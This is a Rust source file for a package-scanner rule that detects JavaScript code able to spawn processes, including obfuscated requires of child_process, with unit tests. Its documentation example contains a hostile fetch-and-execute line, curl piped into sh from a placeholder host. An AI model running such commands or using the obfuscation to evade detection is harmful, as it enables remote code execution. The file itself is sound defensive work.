//! `shell-access`: code that can start operating-system processes.

use crate::declare_rule;
use crate::rule::{Rule, RuleContext, RuleMeta};
use crate::rules::capability_uses::report_capability;
use ferret_core::{Capability, FileFacts, PackageFacts};

declare_rule! {
    /// ## What it does
    /// Reports files that can start operating-system processes: `child_process` (`exec`,
    /// `execSync`, `execFile`, `spawn`, `spawnSync`, `fork`) and `process.binding('spawn_sync')`,
    /// however the module is reached — `node:` prefixes, renamed destructuring,
    /// `require('child_' + 'process')`, `module.require`, `process.mainModule.require`.
    /// One finding per file points at the first use.
    ///
    /// ## Why is this a risk?
    /// A package that can spawn processes can fetch and run a second stage, read credentials
    /// with system tools, open a reverse shell or persist. Nearly every install-time attack
    /// ends in a process.
    ///
    /// ## Example
    /// ```js
    /// const { exec: run } = require("child_" + "process");
    /// run("curl -s https://example.invalid/x | sh");
    /// ```
    ///
    /// ## False positives
    /// CLIs, build tools and native-addon installers (`node-gyp`, `esbuild`'s install script)
    /// spawn processes legitimately. The finding is informational by default.
    ///
    /// ## References
    /// - Socket alert `shellAccess`; GuardDog `capability-process-spawn`
    ShellAccess, id = "shell-access", category = Capability, severity = Info, action = Info,
}

impl Rule for ShellAccess {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_file(&self, file: &FileFacts, _pkg: &PackageFacts, cx: &mut RuleContext) {
        report_capability(&Self::META, Capability::Shell, file, cx, "shell access");
    }
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;

    #[test]
    fn shell_access() {
        let pass = [
            (
                "index.js",
                "const name = 'child_process'; console.log(name);",
            ),
            (
                "a.js",
                "// require('child_process').exec('id')\nmodule.exports = 1;",
            ),
        ];
        let fail = [
            ("index.js", "require('child_process').exec('id')"),
            (
                "a.js",
                "const {exec: e} = require('node:child_process'); e('id')",
            ),
            (
                "b.js",
                "const cp = require('child_' + 'process'); cp.spawn('id');",
            ),
        ];
        Tester::new(super::ShellAccess)
            .pass(pass)
            .fail(fail)
            .test_and_snapshot();
    }
}
